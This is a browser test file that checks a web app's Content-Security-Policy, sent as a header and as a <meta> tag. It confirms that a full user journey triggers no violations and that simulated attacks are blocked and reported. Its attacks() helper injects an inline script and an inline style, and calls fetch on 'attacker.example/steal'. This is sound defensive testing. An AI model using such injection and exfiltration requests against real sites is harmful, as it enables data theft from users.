// The Content-Security-Policy (security-reliability.md §1.3, §5.3): a whole journey sees no
// violation, with the policy sent as a header by continuity-server and as a <meta> by a plain
// static host under a sub-path; an injected inline script, an inline style attribute and a
// request to another origin are blocked and reported.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import {
  startServer, launchBrowser, newPage, journal, clearJournal, createSeries, makePng,
  openSettings, closeSettings, waitForFramesSettled, openBible, closeBible, planWithoutAnchor,
} from './harness.mjs';
import { copyDist, edit, startStaticServer, recordViolations, violations, controlled } from './delivery.mjs';

let server, browser;
before(async () => {
  server = await startServer(['--fake-latency-ms', '100']);
  browser = await launchBrowser();
});
after(async () => {
  await browser?.close();
  await server?.stop();
});

/**
 * Create a series, add a reference image, generate it with streamed previews, open "What will
 * be sent", reload. Returns every violation seen, across the reload.
 */
async function journey(page, name) {
  const seen = [];
  await createSeries(page, { template: 'custom', name, frames: 2 });
  await page.getByTestId('frame-prompt').nth(0).pressSequentially('A lighthouse at dusk');
  await page.getByTestId('frame-prompt').nth(1).pressSequentially('The keeper climbs the stairs');
  await openBible(page);
  await page.getByTestId('add-character').click();
  const png = await makePng(64, 64, [30, 90, 160]);
  await page.getByTestId('reference-input').setInputFiles({ name: 'keeper.png', mimeType: 'image/png', buffer: png });
  await page.getByTestId('reference').locator('img').waitFor();
  await closeBible(page);
  await planWithoutAnchor(page);
  await page.getByTestId('start-plan').click();
  await waitForFramesSettled(page, 2);
  const cards = page.getByTestId('frame-card');
  assert.deepEqual(await cards.evaluateAll((c) => c.map((x) => x.dataset.status)), ['done', 'done']);
  // The app's `style:` properties are CSSOM writes from script, which style-src 'self' allows.
  assert.match(await cards.nth(0).locator('.frame-image').evaluate((e) => e.style.aspectRatio), /\d/);
  await cards.nth(0).getByTestId('sent-details').locator('summary').click();
  await cards.nth(0).getByTestId('sent-preview').waitFor();
  seen.push(...await violations(page));
  await page.reload();
  await page.getByTestId('series-title').filter({ hasText: name }).waitFor();
  await page.getByTestId('frame-card').first().locator('.frame-image img').first().waitFor();
  seen.push(...await violations(page));
  return seen;
}

/** Tries what the policy must refuse; returns the violated directives, in order. */
async function attacks(page) {
  const result = await page.evaluate(async () => {
    const before = window.__cspViolations.length;
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true;';
    document.head.append(script);
    const div = document.createElement('div');
    div.setAttribute('style', 'color: red');
    document.body.append(div);
    let fetched;
    try {
      await fetch('https://attacker.example/steal?k=1');
      fetched = 'sent';
    } catch (e) {
      fetched = String(e);
    }
    await new Promise((r) => setTimeout(r, 200)); // violation events are queued as tasks
    return {
      injected: window.__injected === true,
      styled: getComputedStyle(div).color === 'rgb(255, 0, 0)',
      fetched,
      directives: window.__cspViolations.slice(before).map((v) => `${v.directive} ${v.blocked}`),
    };
  });
  assert.equal(result.injected, false, 'the inline script did not run');
  assert.equal(result.styled, false, 'the inline style attribute was not applied');
  assert.match(result.fetched, /TypeError/);
  return result.directives;
}

const ATTACKS = ['script-src-elem inline', 'style-src-attr inline', 'connect-src https://attacker.example/steal?k=1'];

test('served by continuity-server: the header policy, no violation on a whole journey', async () => {
  const { page, context, errors } = await newPage(browser);
  await recordViolations(context);
  const response = await page.goto(server.url);
  const policy = response.headers()['content-security-policy'];
  assert.match(policy, /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self';/);
  assert.match(policy, /frame-ancestors 'none'$/);
  assert.equal(await page.locator('meta[http-equiv]').count(), 0, 'the page carries no second policy');
  await page.getByTestId('no-projects').waitFor();
  await clearJournal(server.url);
  assert.deepEqual(await journey(page, 'Header policy'), []);
  // The previews were streamed (that is what the journey is meant to cover).
  const sent = (await journal(server.url)).filter((r) => r.status === 200);
  assert.ok(sent.length >= 2 && sent.every((r) => r.params.stream === true || r.params.stream === 'true'),
    JSON.stringify(sent.map((r) => r.params.stream)));
  assert.deepEqual(await attacks(page), ATTACKS);
  // A deep link gets the page through the SPA fallback; <base href> (allowed by base-uri
  // 'self') keeps the app's relative requests (api/config, models.json) at the root.
  await page.goto(`${server.url}some/deep/link`);
  await page.getByTestId('connection').filter({ hasText: 'built-in fake' }).waitFor();
  assert.deepEqual(await violations(page), []);
  assert.deepEqual(errors.filter((e) => !/attacker\.example|Refused to|inline/.test(e)), []);
  await context.close();
});

test('a static host under a sub-path: the <meta> policy, the same journey, no violation', async () => {
  // The fake on this port is the custom endpoint, added to connect-src as
  // CONTINUITY_CONNECT_SRC would at build time.
  const copy = copyDist('continuity');
  edit(copy.dir, 'index.html', (html) => html.replace(/(connect-src [^;"]*)/, `$1 ${server.url.replace(/\/$/, '')}`));
  // What `trunk build --public-url /continuity/` writes: every absolute path under the prefix.
  edit(copy.dir, 'index.html', (html) => html.replace(/=(["']?)\/(?!\/)/g, '=$1/continuity/'));
  const host = await startStaticServer(copy.root);
  try {
    const { page, context, errors } = await newPage(browser);
    await recordViolations(context);
    const response = await page.goto(`${host.url}continuity/`);
    assert.equal(response.headers()['content-security-policy'], undefined);
    assert.match(await page.locator('meta[http-equiv=Content-Security-Policy]').getAttribute('content'),
      /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval';/);
    await page.getByTestId('no-projects').waitFor();
    // The service worker's scope is the sub-path.
    assert.equal(await controlled(page), `${host.url}continuity/`);
    await openSettings(page);
    await page.locator('#conn-custom').check();
    const url = page.getByTestId('custom-base-url');
    await url.fill(`${server.url}v1`);
    await url.press('Tab');
    await page.getByTestId('api-key').fill('sk-test-csp-0123456789abcdef');
    await page.getByTestId('save-key').click();
    await closeSettings(page);
    await clearJournal(server.url);
    assert.deepEqual(await journey(page, 'Meta policy'), []);
    assert.ok((await journal(server.url)).length >= 2, 'the images came from the custom endpoint');
    assert.deepEqual(await attacks(page), ATTACKS);
    assert.deepEqual(errors.filter((e) => !/attacker\.example|Refused to|inline/.test(e)), []);
    await context.close();
  } finally {
    await host.stop();
    copy.remove();
  }
});
